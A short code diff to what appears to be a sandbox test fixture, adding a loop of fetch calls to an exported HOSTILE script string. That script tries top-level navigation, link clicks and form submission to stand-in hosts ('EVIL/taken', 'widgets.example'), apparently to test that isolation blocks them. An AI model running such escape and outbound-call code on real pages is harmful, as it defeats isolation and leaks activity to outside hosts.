@@ -67,5 +67,7 @@ export const HOSTILE = `(async () => {
   await quietly(() => open('EVIL/taken', '_top'));
   await quietly(() => add('a', { href: 'EVIL/taken', target: '_top' }).click());
   await quietly(() => add('form', { action: 'https://widgets.example/taken', target: '_top' }).submit());
+  // A page that is being left has the time to go.
+  for (let turn = 0; turn < 5; turn += 1) await fetch('https://widgets.example/turn');
   await fetch('https://widgets.example/end');
 })();`;
